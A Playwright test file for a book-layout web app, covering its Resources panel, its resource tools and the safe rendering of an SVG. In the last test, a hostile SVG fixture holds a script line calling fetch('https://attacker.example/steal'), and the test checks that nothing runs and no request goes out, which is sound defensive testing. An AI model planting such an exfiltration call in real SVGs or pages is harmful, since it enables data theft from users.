/**
 * Resources in Chromium: the Resources panel adds a picture a figure was waiting for (drawn by the
 * worker from decoded bytes), the resource tools work through window.postextWebMcp, and an SVG
 * with a script and external references is drawn without running or fetching anything.
 */
import { expect, test, type Page } from '@playwright/test';
import { HOSTILE_SVG, makePng } from '../fixtures/resources/pictures';
import { call, ready } from '../support/tools';

test.use({ viewport: { width: 1400, height: 900 }, deviceScaleFactor: 1 });

/** Appends text to the first chapter through the client and waits for its layout. */
async function appendToFirstChapter(page: Page, text: string): Promise<void> {
  await page.evaluate(async (insert) => {
    const client = window.postextApp!.client;
    const book = await client.getBook();
    const chapter = book.chapters[0]!;
    const result = await client.apply({ origin: 'ui', baseRevision: book.revision, ops: [{ type: 'text', chapterId: chapter.id, from: chapter.text.length, to: chapter.text.length, insert }] });
    if (!result.ok) throw new Error(result.error);
    await client.awaitConvergence(result.revision);
  }, text);
}

/** Display items of the first chapter's pages, with the page index. */
async function firstChapterItems(page: Page): Promise<{ page: number; item: Record<string, unknown> }[]> {
  return page.evaluate(async () => {
    const client = window.postextApp!.client;
    const book = await client.getBook();
    await client.awaitConvergence(book.revision);
    const { pages } = await client.getPages();
    const out: { page: number; item: Record<string, unknown> }[] = [];
    for (const p of pages.filter((p) => p.chapter === book.chapters[0]!.id)) {
      const list = await client.getDisplayList(p.index);
      for (const item of list?.items ?? []) out.push({ page: p.index, item: item as unknown as Record<string, unknown> });
    }
    return out;
  });
}

test('a picture added in the Resources panel appears where a figure referenced its missing id', async ({ page }) => {
  await ready(page);
  await appendToFirstChapter(page, '\n\nThe harbour, in :ref{id="harbour-photo"}:\n\n::resource{id="harbour-photo"}\n\nAfter the picture.\n');
  let items = await firstChapterItems(page);
  expect(items.some(({ item }) => item['op'] === 5)).toBe(false);
  expect(items.some(({ item }) => item['op'] === 1 && String(item['text']).includes('harbour-photo'))).toBe(true); // the placeholder names it

  await page.locator('[data-panel="resources"]').click();
  const png = makePng(600, 300, [200, 60, 40]);
  await page.locator('input[type="file"][aria-label="Picture files"]').setInputFiles({ name: 'Harbour photo.png', mimeType: 'image/png', buffer: Buffer.from(png) });
  await expect(page.locator('.resource-row[data-resource="harbour-photo"]')).toBeVisible();
  await expect(page.locator('.resources-message')).toContainText('Added 1 picture');
  await expect(page.locator('.resource-row[data-resource="harbour-photo"]')).toContainText('2 uses');
  // Set where ::resource stands (placement "here"), so the figure is in the flow of this chapter
  // whatever the float placement does with it.
  await page.locator('.resource-row[data-resource="harbour-photo"]').click();
  await page.locator('.resource-detail select').selectOption('here');

  await expect.poll(async () => (await firstChapterItems(page)).filter(({ item }) => item['op'] === 5).length).toBe(1);
  items = await firstChapterItems(page);
  const image = items.find(({ item }) => item['op'] === 5)!;
  // 600 px at the default page.dpi of 300 = 144 pt wide, 72 pt high.
  expect(image.item).toMatchObject({ w: 144, h: 72, resource: 'harbour-photo' });
  expect(items.some(({ item }) => item['op'] === 1 && String(item['text']).includes('Fig.\u00a0'))).toBe(true);

  // The worker decodes the bytes and paints them: the picture's colour is at the image's centre.
  const pixel = await page.evaluate(
    async ({ index, x, y }) => {
      const client = window.postextApp!.client;
      const shot = await client.renderPage(index, { width: 600, format: 'png' });
      const bitmap = await createImageBitmap(new Blob([shot.bytes], { type: shot.mimeType }));
      const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
      const ctx = canvas.getContext('2d')!;
      ctx.drawImage(bitmap, 0, 0);
      const pages = await client.getPages();
      const scale = shot.width / pages.pages[index]!.width;
      return [...ctx.getImageData(Math.round(x * scale), Math.round(y * scale), 1, 1).data];
    },
    { index: image.page, x: (image.item['x'] as number) + 72, y: (image.item['y'] as number) + 36 },
  );
  expect(pixel.slice(0, 3)).toEqual([200, 60, 40]);
  // The canvas painter gets the same bytes by the item's key.
  const served = await page.evaluate(async (key) => (await window.postextApp!.client.getImage(key))?.bytes.length ?? 0, image.item['image'] as string);
  expect(served).toBe(png.length);

  // Rename in the detail: the references follow.
  await page.locator('.resource-detail input').first().fill('harbour-dawn');
  await page.locator('.resource-detail').getByRole('button', { name: 'Rename' }).click();
  await expect(page.locator('.resources-message')).toContainText('2 references updated');
  const text = await page.evaluate(async () => (await window.postextApp!.client.getBook()).chapters[0]!.text);
  expect(text).toContain('::resource{id="harbour-dawn"}');
  expect(text).not.toContain('harbour-photo');

  // The picture is stored with the book: after a reload it is still there, bytes and all.
  await page.evaluate(() => window.postextApp!.client.flush());
  await ready(page);
  await expect
    .poll(() => page.evaluate(async () => (await window.postextApp!.client.listResources()).resources.map((r) => [r.record.id, r.record.payloadBytes ?? 0])))
    .toContainEqual(['harbour-dawn', png.length]);
});

test('the resource tools work through window.postextWebMcp', async ({ page }) => {
  await ready(page);
  const names = await page.evaluate(() => window.postextWebMcp!.listTools().map((t) => t.name));
  expect(names).toEqual(expect.arrayContaining(['sandbox_list_resources', 'sandbox_save_resource', 'sandbox_delete_resource', 'sandbox_list_fonts']));
  const base64 = Buffer.from(makePng(1200, 600, [10, 120, 200])).toString('base64');
  const saved = await call(page, 'sandbox_save_resource', { id: 'quay', image: { base64 }, resolution: 300, caption: 'The quay', placement: { position: 'here' } });
  expect(saved).toMatchObject({ ok: true, created: true, directive: '::resource{id="quay"}', resource: { naturalSize: { width: 288, height: 144 } } });
  await appendToFirstChapter(page, '\n\n::resource{id="quay"}\n');
  const table = await call(page, 'sandbox_save_resource', { id: 'prices', caption: 'Prices in 1850', table: { rows: [['Item', 'Price'], ['Bread', '2d'], ['Ink', '6d']], columnWidths: [2, 1] } });
  expect(table).toMatchObject({ ok: true, resource: { kind: 'table' } });
  const list = await call(page, 'sandbox_list_resources', {});
  expect(list.resources).toEqual(expect.arrayContaining([expect.objectContaining({ id: 'quay', kind: 'bitmap', uses: 1, number: expect.any(String) }), expect.objectContaining({ id: 'prices', kind: 'table', uses: 0 })]));
  const items = await firstChapterItems(page);
  expect(items.find(({ item }) => item['op'] === 5)?.item).toMatchObject({ resource: 'quay', w: expect.any(Number) });
  const renamed = await call(page, 'sandbox_save_resource', { id: 'quay', newId: 'stone-quay' });
  expect(renamed).toMatchObject({ ok: true, renamedReferences: 1 });
  const deleted = await call(page, 'sandbox_delete_resource', { id: 'stone-quay' });
  expect(deleted).toMatchObject({ ok: true, danglingReferences: 1 });
  const refused = await call(page, 'sandbox_save_resource', { id: 'x', imag: {} });
  expect(refused.ok).toBe(false);
  const fonts = await call(page, 'sandbox_list_fonts', { search: 'sans' });
  expect(fonts).toMatchObject({ ok: true, catalogue: expect.arrayContaining([expect.objectContaining({ family: 'Open Sans' })]) });
});

test('an SVG with a script and external references is drawn; nothing runs and nothing is requested', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await ready(page);
  await page.evaluate(() => ((window as unknown as { attacked: boolean }).attacked = false));
  const svg = HOSTILE_SVG.replace("fetch('https://attacker.example/steal')", "window.attacked = true; fetch('https://attacker.example/steal')");
  const saved = await call(page, 'sandbox_save_resource', { id: 'plan', svg: { source: svg }, caption: 'The plan' });
  expect(saved.ok, saved.error).toBe(true);
  await appendToFirstChapter(page, '\n\n::resource{id="plan"}\n');
  const paths = (await firstChapterItems(page)).filter(({ item }) => item['op'] === 4 && (item['fill'] === '#336699' || item['fill'] === '#ff0000'));
  expect(paths.length).toBe(2);
  // The panel shows its thumbnail (an <img>, where SVG scripts never run).
  await page.locator('[data-panel="resources"]').click();
  await expect(page.locator('.resource-row[data-resource="plan"] img')).toBeVisible();
  await page.locator('.resource-row[data-resource="plan"]').click();
  await expect(page.locator('.resource-preview')).toBeVisible();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { attacked: boolean }).attacked)).toBe(false);
  expect(requests.filter((url) => url.includes('attacker.example'))).toEqual([]);
});
